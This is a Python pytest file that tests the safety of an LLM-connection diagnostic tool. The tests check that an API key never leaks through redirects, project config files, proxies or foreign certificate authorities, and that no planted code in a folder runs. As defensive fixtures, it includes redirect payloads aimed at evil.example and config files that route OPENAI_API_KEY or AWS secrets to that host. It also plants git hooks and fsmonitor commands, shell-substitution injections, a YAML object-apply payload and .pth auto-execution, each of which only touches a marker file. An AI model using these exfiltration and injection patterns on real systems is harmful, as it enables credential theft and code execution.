"""The safety contract (DESIGN §6, items 1, 4 and 6), told by the servers and the interpreter."""

from __future__ import annotations

import base64
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from doctor.demo.http import LoopbackServer
from doctor.demo.messages import Answer, Request, Response
from doctor.demo.proxy import ForwardProxy
from doctor.demo.sse import Pace

from .api import Api, answer_of, events, said, stream_of
from .backstage import Backstage
from .conftest import Certified
from .contacts import Contacts
from .machine import KEY, Machine

MODEL = "qwen3-8b"


class Evil:
    """Answers everything as if all were well, and remembers what it was told."""

    def __init__(self) -> None:
        self.api = Api(ids=(MODEL,))

    async def __call__(self, request: Request) -> Answer:
        return await self.api(request)


def saw_key(servers: Iterable[LoopbackServer], key: str = KEY) -> list[str]:
    """Requests that carried the key in any part."""
    coded = base64.b64encode(key.encode()).decode()
    found = []
    for server in servers:
        for request in server.requests:
            told = [request.target, request.body.decode("utf-8", "replace")]
            told += [value for pair in request.headers for value in pair]
            if any(key in text or coded in text for text in told):
                found.append(f"{request.method} {request.target}")
    return found


def shell(machine: Machine, base: str, **more: str) -> None:
    machine.variables |= {
        "OPENAI_BASE_URL": base,
        "OPENAI_API_KEY": KEY,
        "OPENAI_MODEL": MODEL,
    } | more


# ------------------------------------------------------------------ redirects


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("sdk", [False, True])
def test_no_redirect_carries_the_key_to_another_port(
    status: int, sdk: bool, machine: Machine, stage: Backstage
) -> None:
    evil = stage.open(Evil())

    async def away(request: Request) -> Answer:
        return Response(status, b"", (("location", f"{evil.origin}{request.path}"),))

    first = stage.open(away)
    shell(machine, f"{first.origin}/v1")
    ran = machine.check(*(["--sdk"] if sdk else []))

    assert saw_key([first])
    assert evil.requests == []
    assert not ran.report["diagnosis"]["proved"]


def test_a_redirect_within_the_origin_is_followed_once(machine: Machine, stage: Backstage) -> None:
    async def around(request: Request) -> Answer:
        return Response(307, b"", (("location", f"{request.path}x"),))

    server = stage.open(around)
    shell(machine, f"{server.origin}/v1")
    machine.check("--select", "KVD111")

    paths = {request.path for request in server.requests}
    assert {"/v1/chat/completions", "/v1/chat/completionsx"} <= paths
    assert not [path for path in paths if path.endswith("xx")]


@pytest.mark.parametrize(
    "location",
    [
        "http://evil.example/v1",
        "//evil.example/v1",
        "http://{here}@evil.example/v1",
        "http://{here}\\@evil.example/v1",
        "http://evil.example#@{here}/v1",
        "http://evil.example?@{here}/v1",
        "http://evil.example\\.{here}/v1",
        "\\\\evil.example/v1",
        "https://{here}/v1",
        "http://{host}/v1",
        "http://{host}:80/v1",
        "http://evil.example:{port}/v1",
        "HTTP://EVIL.EXAMPLE/v1",
        "http:\t//evil.example/v1",
        "file:///etc/hostname",
        "javascript:alert(1)",
        "http://[::1",
        "http://127.0.0.1:99999/v1",
        "",
    ],
)
def test_no_spelling_of_a_redirect_carries_the_key_away(
    location: str, machine: Machine, stage: Backstage
) -> None:
    evil = stage.open(Evil())

    async def away(request: Request) -> Answer:
        host, _colon, port = request.host.rpartition(":")
        told = location.format(here=request.host, host=host, port=port)
        return Response(307, b"", (("location", told),))

    first = stage.open(away)
    shell(machine, f"{first.origin}/v1")
    mapped = [f"evil.example:{port}={evil.netloc}" for port in (80, 443, first.port)]
    mapped += [f"127.0.0.1:{port}={evil.netloc}" for port in (80, 443)]
    machine.check(*(word for each in mapped for word in ("--connect-to", each)))

    assert saw_key([first])
    assert saw_key([evil]) == []


def test_a_redirect_to_clear_text_is_not_followed(
    machine: Machine, stage: Backstage, certified: Certified, bundle: Path
) -> None:
    clear = stage.open(Evil())

    async def down(request: Request) -> Answer:
        return Response(307, b"", (("location", f"http://llm.example{request.path}"),))

    secure = stage.open(down, ssl_context=certified("llm.example"))
    shell(machine, "https://llm.example/v1")
    machine.check(
        "--connect-to",
        f"llm.example:443={secure.netloc}",
        "--connect-to",
        f"llm.example:80={clear.netloc}",
        "--ca-bundle",
        str(bundle),
    )

    assert saw_key([secure])
    assert clear.requests == []


# ------------------------------------------------------------------ changes


def test_https_is_not_taken_down_for_a_public_host(machine: Machine, stage: Backstage) -> None:
    """Whoever sits in between can answer without TLS at any port."""
    clear = stage.open(Evil())
    shell(machine, "https://llm.example/v1")
    ran = machine.check(
        "--connect-to",
        f"llm.example:443={clear.netloc}",
        "--connect-to",
        f"llm.example:80={clear.netloc}",
    )

    assert ran.code == 1
    assert saw_key([clear]) == []


@pytest.mark.parametrize(
    "files",
    [
        {".env": "OPENAI_BASE_URL={evil}/v1\n"},
        {".env": "OPENAI_API_BASE={evil}/v1\n"},
        {"settings.json": '{{"llm": {{"base_url": "{evil}/v1", "model": "qwen3-8b"}}}}'},
    ],
)
def test_no_repair_goes_to_the_base_of_another_source(
    files: dict[str, str], machine: Machine, stage: Backstage
) -> None:
    """The one in effect is dead; another one, of a file, would answer."""
    evil = stage.open(Evil())
    shell(machine, f"http://127.0.0.1:{stage.silent_port()}/v1")
    for name, text in files.items():
        machine.write(name, text.format(evil=evil.origin.replace("127.0.0.1", "evil.example")))
    machine.check("--connect-to", f"evil.example:{evil.port}={evil.netloc}")

    assert saw_key([evil]) == []


def test_swapped_values_do_not_hand_the_key_to_a_file(machine: Machine, stage: Backstage) -> None:
    """The key stands in the URL's variable of the shell, the URL in a file of the folder."""
    evil = stage.open(Evil())
    machine.variables |= {"OPENAI_BASE_URL": KEY, "OPENAI_MODEL": MODEL}
    machine.write(".env", f"OPENAI_API_KEY=http://evil.example:{evil.port}/v1\n")
    machine.check("--connect-to", f"evil.example:{evil.port}={evil.netloc}")

    assert saw_key([evil]) == []


# ------------------------------------------------------------------ project files


def in_project(machine: Machine, folder: str = "Downloads/stranger") -> None:
    """The working folder is somebody else's, unpacked below the home."""
    machine.cwd = machine.home / folder
    machine.cwd.mkdir(parents=True)


HOSTILE_PROJECTS: dict[str, dict[str, str]] = {
    "env file": {".env": "OPENAI_BASE_URL=http://evil.example/v1\n"},
    "env file that borrows": {
        ".env": "LLM_BASE_URL=http://evil.example/v1\nLLM_API_KEY=${OPENAI_API_KEY}\n"
        "LLM_MODEL=qwen3-8b\n"
    },
    "env file that weaves the key in": {
        ".env": "LLM_BASE_URL=http://evil.example/${OPENAI_API_KEY}/v1\nLLM_MODEL=qwen3-8b\n"
        "LLM_API_KEY=x\n"
    },
    "settings by a variable's name": {
        "settings.json": '{"llm": {"base_url": "http://evil.example/v1", "model": "qwen3-8b",'
        ' "api_key_env": "OPENAI_API_KEY"}}'
    },
    "settings by a reference": {
        "config.toml": '[llm]\nbase_url = "http://evil.example/v1"\nmodel = "qwen3-8b"\n'
        'api_key = "${OPENAI_API_KEY}"\n'
    },
    "settings with the key in the address": {
        "config.toml": '[llm]\nbase_url = "${OPENAI_API_KEY}"\nmodel = "qwen3-8b"\napi_key = "x"\n'
    },
    "target of kvdoctor": {
        "kvdoctor.toml": '[targets.x]\nbase_url = "http://evil.example/v1"\n'
        'key_env = "OPENAI_API_KEY"\nmodel = "qwen3-8b"\n'
    },
    "target with a file of the home": {
        "kvdoctor.toml": '[targets.x]\nbase_url = "http://evil.example/v1"\n'
        'key_file = "~/.secret"\nmodel = "qwen3-8b"\n'
    },
    "target with the key of another variable": {
        "kvdoctor.toml": '[targets.x]\nbase_url = "http://evil.example/v1"\n'
        'key_env = "AWS_SECRET_ACCESS_KEY"\nmodel = "qwen3-8b"\n'
    },
    "compose that hands on": {
        "compose.yaml": "services:\n  app:\n    image: x\n    environment:\n"
        "      OPENAI_BASE_URL: http://evil.example/v1\n      OPENAI_MODEL: qwen3-8b\n"
        "      OPENAI_API_KEY: ${OPENAI_API_KEY}\n"
    },
    "compose by name": {
        "compose.yaml": "services:\n  app:\n    image: x\n    environment:\n"
        "      - OPENAI_BASE_URL=http://evil.example/v1\n      - OPENAI_MODEL=qwen3-8b\n"
        "      - OPENAI_API_KEY\n"
    },
}


@pytest.mark.parametrize("dotfiles", [False, True], ids=["plain home", "home under git"])
@pytest.mark.parametrize("name", [*HOSTILE_PROJECTS])
def test_no_project_file_chooses_where_a_key_goes(
    name: str, dotfiles: bool, machine: Machine, stage: Backstage
) -> None:
    evil = stage.open(Evil())
    in_project(machine)
    if dotfiles:
        (machine.home / ".git").mkdir()
    machine.variables |= {"OPENAI_API_KEY": KEY, "AWS_SECRET_ACCESS_KEY": KEY}
    machine.write("~/.secret", KEY, 0o600)
    for path, text in HOSTILE_PROJECTS[name].items():
        machine.write(path, text)
    ran = machine.check(
        "--connect-to",
        f"evil.example:80={evil.netloc}",
        "--connect-to",
        f"api.openai.com:443=127.0.0.1:{stage.silent_port()}",
    )

    assert saw_key([evil]) == []
    assert KEY not in ran.out + ran.err


@pytest.mark.parametrize("dotfiles", [False, True], ids=["plain home", "home under git"])
def test_no_proxy_of_a_project_gets_between(
    dotfiles: bool,
    machine: Machine,
    stage: Backstage,
    certified: Certified,
    bundle: Path,
) -> None:
    """With a proxy and an authority of its own a project would read what goes to any host."""
    spy = stage.open(Evil(), ssl_context=certified("api.openai.com"))
    proxy = stage.open(ForwardProxy(hosts={"api.openai.com": spy.netloc}))
    in_project(machine)
    if dotfiles:
        (machine.home / ".git").mkdir()
    machine.variables |= {"OPENAI_API_KEY": KEY}
    machine.write("ca.pem", bundle.read_bytes())
    machine.write(
        "kvdoctor.toml",
        '[targets.x]\nbase_url = "https://api.openai.com/v1"\nkey_env = "OPENAI_API_KEY"\n'
        f'model = "{MODEL}"\nca_bundle = "ca.pem"\n'
        f'proxy = "http://evil.example:{proxy.port}"\n',
    )
    machine.check(
        "--connect-to",
        f"evil.example:{proxy.port}={proxy.netloc}",
        "--connect-to",
        f"api.openai.com:443=127.0.0.1:{stage.silent_port()}",
    )

    assert saw_key([spy]) == []


def test_no_proxy_of_a_project_reads_what_goes_to_this_machine(
    machine: Machine, stage: Backstage
) -> None:
    evil = stage.open(Evil())
    in_project(machine)
    machine.variables |= {"OPENAI_API_KEY": KEY}
    machine.write(
        "kvdoctor.toml",
        f'[targets.x]\nbase_url = "http://127.0.0.1:{evil.port}/v1"\nkey_env = "OPENAI_API_KEY"\n'
        f'model = "{MODEL}"\nproxy = "http://evil.example:{evil.port}"\n',
    )
    machine.check(
        "--connect-to",
        f"evil.example:{evil.port}={evil.netloc}",
        "--connect-to",
        f"api.openai.com:443=127.0.0.1:{stage.silent_port()}",
    )

    assert saw_key([evil]) == []


def test_no_proxy_of_an_env_file_is_used(machine: Machine, stage: Backstage) -> None:
    """A program that loads the file may do so; the doctor does not hand its user's key over."""
    server, evil = stage.open(Api(key=KEY)), stage.open(Evil())
    in_project(machine)
    shell(machine, "http://192.168.1.20:8000/v1")
    names = ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "HTTPS_PROXY")
    machine.write(".env", "".join(f"{name}={evil.origin}\n" for name in names))
    ran = machine.check("--connect-to", f"192.168.1.20:8000={server.netloc}")

    assert evil.connections == 0
    assert ran.report["diagnosis"]["before"]["answered"]


def test_no_authority_of_a_project_is_trusted(
    machine: Machine, stage: Backstage, certified: Certified, bundle: Path
) -> None:
    """It would let whoever is on the way answer for the provider."""
    spy = stage.open(Evil(), ssl_context=certified("api.openai.com"))
    in_project(machine)
    machine.variables |= {"OPENAI_API_KEY": KEY}
    machine.write("ca.pem", bundle.read_bytes())
    machine.write(
        "kvdoctor.toml",
        '[targets.x]\nbase_url = "https://api.openai.com/v1"\nkey_env = "OPENAI_API_KEY"\n'
        f'model = "{MODEL}"\nca_bundle = "ca.pem"\n',
    )
    machine.check("--connect-to", f"api.openai.com:443={spy.netloc}")

    assert saw_key([spy]) == []


def test_no_authority_of_a_project_joins_a_target_of_the_user(
    machine: Machine, stage: Backstage, certified: Certified, bundle: Path
) -> None:
    spy = stage.open(Evil(), ssl_context=certified("llm.example"))
    in_project(machine)
    machine.variables |= {"SHOP_KEY": KEY}
    target = 'base_url = "https://llm.example/v1"\nkey_env = "SHOP_KEY"\n' + f'model = "{MODEL}"\n'
    machine.write("~/.config/kvdoctor/kvdoctor.toml", f"[targets.mine]\n{target}")
    machine.write("ca.pem", bundle.read_bytes())
    machine.write("kvdoctor.toml", f'[targets.x]\n{target}ca_bundle = "ca.pem"\n')
    machine.check("--connect-to", f"llm.example:443={spy.netloc}")

    assert saw_key([spy]) == []


def test_what_the_user_configured_is_examined_though_a_project_says_the_same(
    machine: Machine, stage: Backstage
) -> None:
    server = stage.open(Api(key=KEY))
    in_project(machine)
    base = "http://192.168.1.20:8000/v1"
    shell(machine, base)
    machine.write(
        "kvdoctor.toml",
        f'[targets.x]\nbase_url = "{base}"\nkey_env = "OPENAI_API_KEY"\nmodel = "{MODEL}"\n',
    )
    ran = machine.check("--connect-to", f"192.168.1.20:8000={server.netloc}")

    assert [t["diagnosis"]["before"]["answered"] for t in ran.report["targets"]] == [True]
    assert saw_key([server])


def test_the_user_may_trust_a_project(machine: Machine, stage: Backstage) -> None:
    server = stage.open(Api(key=KEY))
    in_project(machine)
    machine.variables |= {"SHOP_KEY": KEY}
    machine.write(
        "kvdoctor.toml",
        '[targets.x]\nbase_url = "http://team.example/v1"\nkey_env = "SHOP_KEY"\n'
        f'model = "{MODEL}"\n',
    )
    mapped = ("--connect-to", f"team.example:80={server.netloc}")
    assert machine.check(*mapped).report["diagnosis"]["before"] is None
    assert machine.check("x", *mapped).report["diagnosis"]["before"]["answered"]
    assert machine.check("--trust-project", *mapped).report["diagnosis"]["before"]["answered"]


# ------------------------------------------------------------------ nothing is executed

_TOUCH = "touch {mark}"


def hostile_repository(machine: Machine, mark: Path) -> None:
    """A work tree whose configuration names programs to run."""
    machine.git("init", "-q")
    command = _TOUCH.format(mark=mark)
    for name in (
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "core.editor",
        "pager.ls-files",
        "alias.ls-files",
        "diff.external",
        "filter.x.clean",
        "filter.x.smudge",
        "credential.helper",
        "gpg.program",
    ):
        machine.git("config", name, command if not name.startswith("alias") else f"!{command}")
    machine.write(".gitattributes", "* filter=x\n")
    hook = machine.write(".git/hooks/post-index-change", f"#!/bin/sh\n{command}\n", 0o755)
    assert hook.exists()


def test_nothing_that_is_found_is_executed(
    machine: Machine, stage: Backstage, contacts: Contacts
) -> None:
    server = stage.open(Api(key=KEY))
    mark = machine.root / "executed"
    touch = _TOUCH.format(mark=mark)
    hostile_repository(machine, mark)
    machine.write(
        ".env",
        f"OPENAI_BASE_URL={server.origin}/v1\nOPENAI_API_KEY={KEY}\nOPENAI_MODEL={MODEL}\n"
        f'A=$({touch})\nB=`{touch}`\nC="$({touch})"\n$({touch})\n',
    )
    machine.write("run.sh", f"#!/bin/sh\n. ./.env\n{touch}\n", 0o755)
    machine.write(".envrc", touch)
    machine.write("~/.bashrc", touch)
    machine.write("~/.profile", touch)
    machine.write("sitecustomize.py", f"import os; os.system({touch!r})")
    machine.write("checks.py", f"import os; os.system({touch!r})")
    machine.write("httpx.py", f"import os; os.system({touch!r})")
    machine.write("app.py", f"from dotenv import load_dotenv\nimport os; os.system({touch!r})")
    machine.write(
        "x.yaml", f"a: !!python/object/apply:os.system [{touch!r}]\nbase_url: http://127.0.0.1:9\n"
    )
    machine.write("~/.claude/settings.json", f'{{"apiKeyHelper": "{touch}"}}')
    machine.write(".claude/settings.json", f'{{"apiKeyHelper": "{touch}"}}')
    machine.write(
        "settings.json",
        f'{{"apiKeyHelper": "{touch}", "base_url": "http://127.0.0.1:9", "model": "m"}}',
    )
    machine.write("compose.yaml", f"services:\n  a:\n    environment:\n      X: $({touch})\n")
    machine.write(".venv/bin/python", f"#!/bin/sh\n{touch}\n", 0o755)
    machine.write(".venv/pyvenv.cfg", "home = /usr/bin\n")
    machine.write(".venv/lib/python3.12/site-packages/x.pth", f"import os; os.system({touch!r})")
    machine.write(
        "evil-1.0.dist-info/entry_points.txt", "[kvdoctor.checks]\nevil = checks:everything\n"
    )
    machine.write("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
    machine.run("check", "--sdk", "--format", "json")
    machine.run("explain", "APIConnectionError: Connection error.")

    assert not mark.exists()
    assert {command.split()[0] for command in contacts.started} <= {"git"}


# ------------------------------------------------------------------ only the target is contacted


def test_only_the_target_is_contacted(
    machine: Machine, stage: Backstage, contacts: Contacts
) -> None:
    """Whatever is wrong, and whatever else stands in the environment."""
    server = stage.open(Api(key="another"))
    bystander = stage.open(Evil())
    shell(
        machine,
        f"{server.origin}/v1",
        HTTPS_PROXY=bystander.origin,
        ANTHROPIC_LOG="debug",
        OTEL_EXPORTER_OTLP_ENDPOINT=bystander.origin,
        LANGCHAIN_ENDPOINT=bystander.origin,
    )
    machine.run("check", "openai-sdk", "--sdk", "--format", "json")

    assert saw_key([server])
    assert bystander.connections == 0
    assert contacts.hosts <= {"127.0.0.1", "::1"}


def billable(server: LoopbackServer) -> list[Request]:
    return [request for request in server.requests if request.method == "POST"]


def test_no_request_costs_more_than_a_word(machine: Machine, stage: Backstage) -> None:
    server = stage.open(Api(key="another"))
    shell(machine, f"{server.origin}/v1")
    report = machine.check().report

    asked: list[dict[str, Any]] = [request.json_object() for request in billable(server)]
    assert asked
    assert all(1 <= body["max_tokens"] <= 16 for body in asked)
    assert report["requests"]["billable"] == len(asked)


def test_a_large_budget_is_cancelled_at_the_first_word(machine: Machine, stage: Backstage) -> None:
    parts = events(said(MODEL, *["word "] * 500))
    server = stage.open(Api(chat=lambda body: stream_of(parts, pace=Pace(each=0.02))))
    shell(machine, f"{server.origin}/v1", OPENAI_MAX_TOKENS="32000")
    machine.check()

    assert [request.json_object()["max_tokens"] for request in billable(server)] == [32000]
    assert all(exchange.sent < 5_000 for exchange in server.exchanges if exchange.request.body)


@pytest.mark.parametrize("flag", ["--no-spend", "--offline"])
def test_what_costs_can_be_switched_off(flag: str, machine: Machine, stage: Backstage) -> None:
    async def refused(request: Request) -> Answer:
        return answer_of(401, {"error": {"message": "no"}})

    server = stage.open(refused)
    shell(machine, f"{server.origin}/v1")
    machine.check(flag, "--sdk")

    assert billable(server) == []
    if flag == "--offline":
        assert server.connections == 0
